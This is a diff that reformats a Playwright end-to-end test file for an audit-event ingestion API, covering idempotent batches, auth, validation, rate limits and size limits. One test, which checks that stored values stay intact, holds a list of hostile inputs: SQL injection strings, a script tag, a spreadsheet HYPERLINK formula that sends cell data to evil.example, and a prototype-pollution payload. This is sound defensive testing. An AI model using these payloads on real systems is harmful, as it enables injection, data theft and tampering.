@@ -26,7 +26,13 @@ function event(id: string, extra: Record<string, unknown> = {}) {
     id,
     occurred_at: '2026-11-20T14:03:12.345+01:00',
     action: 'candidate.update',
-    actor: { id: 'u_42', name: 'Dana Reyes', email: 'dana@example.com', ip: '203.0.113.7', time_zone: 'Europe/Berlin' },
+    actor: {
+      id: 'u_42',
+      name: 'Dana Reyes',
+      email: 'dana@example.com',
+      ip: '203.0.113.7',
+      time_zone: 'Europe/Berlin',
+    },
     target: { type: 'candidate', id: 'c_981', label: 'Jane Doe' },
     changes: [{ field: 'stage', old: 'interview', new: 'offer' }],
     ...extra,
@@ -34,21 +40,28 @@ function event(id: string, extra: Record<string, unknown> = {}) {
 }
 
 async function storedCount(streamId: string) {
-  const [row] = await e2eDb().execute<{ n: number }>(sql`select count(*)::int as n from audit_events where stream_id = ${streamId}::uuid`);
+  const [row] = await e2eDb().execute<{ n: number }>(
+    sql`select count(*)::int as n from audit_events where stream_id = ${streamId}::uuid`,
+  );
   return row!.n;
 }
 
 test.describe('POST /api/v1/events over real HTTP', () => {
   test('accepts a batch, is queryable at once, and a retry stores nothing twice', async () => {
     const source = await newSource();
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
     const events = Array.from({ length: 50 }, (_, i) => event(`evt-${i}`));
     const first = await api.post('/api/v1/events', { data: { events } });
     expect(first.status()).toBe(200);
     expect(await first.json()).toEqual({ accepted: 50, duplicates: 0 });
     expect(await storedCount(source.streamId)).toBe(50);
     // Concurrent and sequential retries of the same batch.
-    const retries = await Promise.all([1, 2, 3].map(() => api.post('/api/v1/events', { data: { events } })));
+    const retries = await Promise.all(
+      [1, 2, 3].map(() => api.post('/api/v1/events', { data: { events } })),
+    );
     for (const r of retries) expect(await r.json()).toEqual({ accepted: 0, duplicates: 50 });
     expect(await storedCount(source.streamId)).toBe(50);
     await api.dispose();
@@ -70,17 +83,60 @@ test.describe('POST /api/v1/events over real HTTP', () => {
     const source = await newSource();
     const api = await playwrightRequest.newContext({ baseURL: BASE });
     const auth = { Authorization: `Bearer ${source.key}` };
-    const cases: { name: string; status: number; headers?: Record<string, string>; data: unknown; message: RegExp }[] = [
-      { name: 'no key', status: 401, headers: {}, data: { events: [event('x')] }, message: /API key/ },
-      { name: 'wrong key', status: 401, headers: { Authorization: 'Bearer wck_not-a-real-key' }, data: { events: [event('x')] }, message: /API key/ },
-      { name: 'not JSON', status: 400, headers: { ...auth, 'Content-Type': 'application/json' }, data: Buffer.from('{"events": ['), message: /not valid JSON/ },
-      { name: 'no events key', status: 400, data: { items: [] }, message: /\{"events": \[\.\.\.\]\}/ },
+    const cases: {
+      name: string;
+      status: number;
+      headers?: Record<string, string>;
+      data: unknown;
+      message: RegExp;
+    }[] = [
+      {
+        name: 'no key',
+        status: 401,
+        headers: {},
+        data: { events: [event('x')] },
+        message: /API key/,
+      },
+      {
+        name: 'wrong key',
+        status: 401,
+        headers: { Authorization: 'Bearer wck_not-a-real-key' },
+        data: { events: [event('x')] },
+        message: /API key/,
+      },
+      {
+        name: 'not JSON',
+        status: 400,
+        headers: { ...auth, 'Content-Type': 'application/json' },
+        data: Buffer.from('{"events": ['),
+        message: /not valid JSON/,
+      },
+      {
+        name: 'no events key',
+        status: 400,
+        data: { items: [] },
+        message: /\{"events": \[\.\.\.\]\}/,
+      },
       { name: 'empty batch', status: 400, data: { events: [] }, message: /no events/ },
-      { name: 'over 1,000 events', status: 413, data: { events: Array.from({ length: 1001 }, (_, i) => event(`big-${i}`)) }, message: /at most 1000 events/ },
-      { name: 'wrong content type', status: 415, headers: { ...auth, 'Content-Type': 'text/csv' }, data: 'a,b', message: /Content-Type/ },
+      {
+        name: 'over 1,000 events',
+        status: 413,
+        data: { events: Array.from({ length: 1001 }, (_, i) => event(`big-${i}`)) },
+        message: /at most 1000 events/,
+      },
+      {
+        name: 'wrong content type',
+        status: 415,
+        headers: { ...auth, 'Content-Type': 'text/csv' },
+        data: 'a,b',
+        message: /Content-Type/,
+      },
     ];
     for (const c of cases) {
-      const response = await api.post('/api/v1/events', { headers: c.headers ?? auth, data: c.data });
+      const response = await api.post('/api/v1/events', {
+        headers: c.headers ?? auth,
+        data: c.data,
+      });
       expect(response.status(), c.name).toBe(c.status);
       expect((await response.json()).error, c.name).toMatch(c.message);
     }
@@ -90,7 +146,10 @@ test.describe('POST /api/v1/events over real HTTP', () => {
 
   test('one bad event in a batch: 422 with one entry per problem (index, field, message), nothing stored', async () => {
     const source = await newSource();
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
     const response = await api.post('/api/v1/events', {
       data: {
         events: [
@@ -123,20 +182,35 @@ test.describe('POST /api/v1/events over real HTTP', () => {
 
   test('the same id with a different body is a conflict: 409, nothing stored', async () => {
     const source = await newSource();
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
-    expect((await api.post('/api/v1/events', { data: { events: [event('same')] } })).status()).toBe(200);
-    const response = await api.post('/api/v1/events', { data: { events: [event('new-one'), event('same', { reason: 'changed' })] } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
+    expect((await api.post('/api/v1/events', { data: { events: [event('same')] } })).status()).toBe(
+      200,
+    );
+    const response = await api.post('/api/v1/events', {
+      data: { events: [event('new-one'), event('same', { reason: 'changed' })] },
+    });
     expect(response.status()).toBe(409);
-    expect((await response.json()).conflicts).toEqual([{ index: 1, id: 'same', reason: 'this id was already stored with a different body' }]);
+    expect((await response.json()).conflicts).toEqual([
+      { index: 1, id: 'same', reason: 'this id was already stored with a different body' },
+    ]);
     expect(await storedCount(source.streamId)).toBe(1);
     await api.dispose();
   });
 
   test('a body over the limit gets 413 (just over, and 100 MB)', async () => {
     const source = await newSource();
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
     for (const size of [10 * 1024 * 1024 + 1, 100 * 1024 * 1024]) {
-      const response = await api.post('/api/v1/events', { headers: { 'Content-Type': 'application/json' }, data: Buffer.alloc(size, 'a') });
+      const response = await api.post('/api/v1/events', {
+        headers: { 'Content-Type': 'application/json' },
+        data: Buffer.alloc(size, 'a'),
+      });
       expect(response.status()).toBe(413);
     }
     expect(await storedCount(source.streamId)).toBe(0);
@@ -146,18 +220,30 @@ test.describe('POST /api/v1/events over real HTTP', () => {
   test('a revoked key is refused with 401', async () => {
     const source = await newSource();
     await e2eDb().transaction((tx) => revokeApiKey(tx, SETUP, { keyId: source.keyId }));
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
-    expect((await api.post('/api/v1/events', { data: { events: [event('x')] } })).status()).toBe(401);
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
+    expect((await api.post('/api/v1/events', { data: { events: [event('x')] } })).status()).toBe(
+      401,
+    );
     await api.dispose();
   });
 
   test('a source over its rate gets 429 with Retry-After', async () => {
     const source = await newSource();
     await e2eDb().update(sources).set({ rateLimitPerSecond: 10 }).where(eq(sources.id, source.id));
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
-    const first = await api.post('/api/v1/events', { data: { events: Array.from({ length: 20 }, (_, i) => event(`r-${i}`)) } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
+    const first = await api.post('/api/v1/events', {
+      data: { events: Array.from({ length: 20 }, (_, i) => event(`r-${i}`)) },
+    });
     expect(first.status()).toBe(200);
-    const second = await api.post('/api/v1/events', { data: { events: Array.from({ length: 20 }, (_, i) => event(`s-${i}`)) } });
+    const second = await api.post('/api/v1/events', {
+      data: { events: Array.from({ length: 20 }, (_, i) => event(`s-${i}`)) },
+    });
     expect(second.status()).toBe(429);
     expect(Number(second.headers()['retry-after'])).toBeGreaterThan(0);
     expect(await storedCount(source.streamId)).toBe(20);
@@ -167,21 +253,50 @@ test.describe('POST /api/v1/events over real HTTP', () => {
   test('hostile values survive storage byte for byte and the chains still verify', async () => {
     const source = await newSource();
     const hostile = [
-      "' OR '1'='1", "'; DROP TABLE audit_events;--", '<script>window.__pwned=1</script>', '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-      'line\r\nbreak', '\u2028', '\u001b[31mred', 'аdmin', '\u202Eevil', 'é', 'e\u0301', '\u200B', '{"__proto__":{"isAdmin":true}}',
+      "' OR '1'='1",
+      "'; DROP TABLE audit_events;--",
+      '<script>window.__pwned=1</script>',
+      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+      'line\r\nbreak',
+      '\u2028',
+      '\u001b[31mred',
+      'аdmin',
+      '\u202Eevil',
+      'é',
+      'e\u0301',
+      '\u200B',
+      '{"__proto__":{"isAdmin":true}}',
     ];
-    const api = await playwrightRequest.newContext({ baseURL: BASE, extraHTTPHeaders: { Authorization: `Bearer ${source.key}` } });
+    const api = await playwrightRequest.newContext({
+      baseURL: BASE,
+      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
+    });
     const events = hostile.map((value, i) =>
-      event(`h-${i}`, { actor: { name: value, ip: value }, target: { type: 'candidate', id: value, label: value }, changes: [{ field: value, old: value, new: { nested: [value, 9007199254740991] } }], metadata: { [value]: value } }),
+      event(`h-${i}`, {
+        actor: { name: value, ip: value },
+        target: { type: 'candidate', id: value, label: value },
+        changes: [{ field: value, old: value, new: { nested: [value, 9007199254740991] } }],
+        metadata: { [value]: value },
+      }),
     );
     const response = await api.post('/api/v1/events', { data: { events } });
     expect(response.status()).toBe(200);
-    const rows = await e2eDb().$client<{ source_event_id: string; actor_name: string; target_id: string; changes: unknown; metadata: unknown }[]>`
+    const rows = await e2eDb().$client<
+      {
+        source_event_id: string;
+        actor_name: string;
+        target_id: string;
+        changes: unknown;
+        metadata: unknown;
+      }[]
+    >`
       select source_event_id, actor_name, target_id, changes, metadata from audit_events where stream_id = ${source.streamId}::uuid order by seq`;
     expect(rows.map((r) => r.actor_name)).toEqual(hostile);
     expect(rows.map((r) => r.target_id)).toEqual(hostile);
     rows.forEach((r, i) => {
-      expect(r.changes).toEqual([{ field: hostile[i], old: hostile[i], new: { nested: [hostile[i], 9007199254740991] } }]);
+      expect(r.changes).toEqual([
+        { field: hostile[i], old: hostile[i], new: { nested: [hostile[i], 9007199254740991] } },
+      ]);
       expect(r.metadata).toEqual({ [hostile[i]!]: hostile[i] });
     });
     const report = await verifyDatabase(e2eDb().$client);
